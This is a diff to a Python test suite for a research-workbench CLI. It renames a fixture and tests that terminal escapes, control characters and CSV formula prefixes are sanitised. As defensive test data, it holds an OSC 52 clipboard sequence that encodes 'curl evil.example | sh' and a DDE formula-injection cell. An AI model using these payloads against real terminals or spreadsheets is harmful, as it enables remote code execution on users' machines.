@@ -19,8 +19,8 @@ from workbench.io.refi.textmap import CODE_POINTS, TextMap
 OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07"
 
 
-def _hostile(study):
-    with Project.open(study, write=True) as project:
+def _hostile(interview):
+    with Project.open(interview, write=True) as project:
         doc = project.documents.all()[0]
         with project.change("hostile"):  # as an older or hand-edited file may hold them
             project.documents.put(type(doc)(**{**{f: getattr(doc, f) for f in (
@@ -33,42 +33,42 @@ def _hostile(study):
         project.save()
 
 
-def test_nothing_printed_holds_a_raw_escape(study, cli):
-    _hostile(study)
+def test_nothing_printed_holds_a_raw_escape(interview, cli):
+    _hostile(interview)
     for args in (("docs",), ("codes",), ("quotes",), ("cases",), ("names",),
                  ("search", "letter"), ("memos",), ("check",)):
-        status, out, err = cli(*args[:1], study, *args[1:])
+        status, out, err = cli(*args[:1], interview, *args[1:])
         for stream in (out, err):
             assert not CONTROLS.search(stream.replace("\n", "").replace("\t", "")), (args, stream)
-    status, out, err = cli("text", study, "nope\x1b[31m")
+    status, out, err = cli("text", interview, "nope\x1b[31m")
     assert status == 2 and "\x1b" not in err
 
 
-def test_json_escapes_c1_and_keeps_the_value(study, cli):
-    _hostile(study)
-    status, out, _ = cli("docs", study, "--json")
+def test_json_escapes_c1_and_keeps_the_value(interview, cli):
+    _hostile(interview)
+    status, out, _ = cli("docs", interview, "--json")
     assert "\x1b" not in out and "\x9b" not in out and "\x07" not in out
     assert json.loads(out)[0]["name"] == f"doc{OSC52}"
 
 
-def test_text_on_a_terminal_is_cleaned_and_piped_is_exact(study, tmp_path):
-    _hostile(study)
+def test_text_on_a_terminal_is_cleaned_and_piped_is_exact(interview, tmp_path):
+    _hostile(interview)
     code = ("import sys; sys.stdout.isatty = lambda: True; from workbench.cli.main import main;"
-            f"sys.exit(main(['text', {str(study)!r}, 'doc{OSC52}']))")
+            f"sys.exit(main(['text', {str(interview)!r}, 'doc{OSC52}']))")
     on_tty = subprocess.run([sys.executable, "-c", code], capture_output=True)
     assert on_tty.returncode == 0
     assert b"\x1b" not in on_tty.stdout and b"\xc2\x9b" not in on_tty.stdout
-    piped = subprocess.run([sys.executable, "-m", "workbench", "text", str(study), f"doc{OSC52}"],
+    piped = subprocess.run([sys.executable, "-m", "workbench", "text", str(interview), f"doc{OSC52}"],
                            capture_output=True)
-    assert piped.stdout.decode() == Project.open(study).documents.all()[0].text
+    assert piped.stdout.decode() == Project.open(interview).documents.all()[0].text
 
 
-def test_import_drops_controls_and_says_how_many(study, cli, tmp_path):
+def test_import_drops_controls_and_says_how_many(interview, cli, tmp_path):
     source = tmp_path / "escapes.txt"
     source.write_text(f"Dana: hello{OSC52} there\fpage two\n", encoding="utf-8")
-    status, out, _ = cli("import", study, source)
+    status, out, _ = cli("import", interview, source)
     assert status == 0 and "control characters removed" in out
-    doc = Project.open(study).documents.by_name("escapes")
+    doc = Project.open(interview).documents.by_name("escapes")
     assert doc.text == "Dana: hello]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo= there\npage two\n"
 
 
@@ -106,45 +106,45 @@ def test_refi_positions_follow_dropped_controls(raw):
             assert tmap.text[start:end] == "x"
 
 
-def test_csv_cells_never_start_a_formula(study, cli, tmp_path):
-    _hostile(study)
-    with Project.open(study, write=True) as project:
+def test_csv_cells_never_start_a_formula(interview, cli, tmp_path):
+    _hostile(interview)
+    with Project.open(interview, write=True) as project:
         doc = project.documents.all()[0]
         project.documents.set_case(doc, "case\x1b]0;title\x07")
         project.save()
     target = tmp_path / "out.csv"
-    assert cli("export", study, "--format", "csv", "-o", target)[0] == 0
+    assert cli("export", interview, "--format", "csv", "-o", target)[0] == 0
     rows = list(csv.reader(io.StringIO(target.read_text(encoding="utf-8"))))
     for row in rows:
         for cell in row:
             assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
     assert "'=cmd|' /C calc'!A0" in [c for r in rows for c in r]
-    status, out, _ = cli("report", study, "matrix", "--by", "city", "--csv")
+    status, out, _ = cli("report", interview, "matrix", "--by", "city", "--csv")
     assert status == 0
     assert not any(c.startswith("=") for r in csv.reader(io.StringIO(out)) for c in r)
 
 
-def test_undecodable_arguments_and_stdin_are_clean_errors(study, tmp_path):
+def test_undecodable_arguments_and_stdin_are_clean_errors(interview, tmp_path):
     env = {**os.environ, "PYTHONIOENCODING": "utf-8"}
     bad = os.fsdecode(b"caf\xe9")  # a Latin-1 name: a lone surrogate in argv
-    for args in (["case", str(study), bad], ["code", str(study), "interview", "0", "5", bad],
-                 ["import", str(study), str(tmp_path / bad)]):
+    for args in (["case", str(interview), bad], ["code", str(interview), "interview", "0", "5", bad],
+                 ["import", str(interview), str(tmp_path / bad)]):
         done = subprocess.run([sys.executable, "-m", "workbench", *args], capture_output=True,
                               env=env)
         assert done.returncode == 2, done.stderr
         assert done.stderr.startswith(b"error: ") and b"UTF-8" in done.stderr
         assert b"internal error" not in done.stderr
-    done = subprocess.run([sys.executable, "-m", "workbench", "memo", str(study), "--on",
+    done = subprocess.run([sys.executable, "-m", "workbench", "memo", str(interview), "--on",
                            "project", "--text", "-"], input=b"caf\xe9\n", capture_output=True,
                           env=env)
     assert done.returncode == 2 and b"not UTF-8" in done.stderr
 
 
-def test_markdown_and_html_write_ups_hold_no_controls(study, cli, tmp_path):
-    _hostile(study)
+def test_markdown_and_html_write_ups_hold_no_controls(interview, cli, tmp_path):
+    _hostile(interview)
     for fmt in ("md", "html"):
         target = tmp_path / f"out.{fmt}"
-        assert cli("export", study, "--format", fmt, "-o", target)[0] == 0
+        assert cli("export", interview, "--format", fmt, "-o", target)[0] == 0
         written = target.read_text(encoding="utf-8")
         assert not CONTROLS.search(written), fmt
         assert "Evil\ufffd" in written
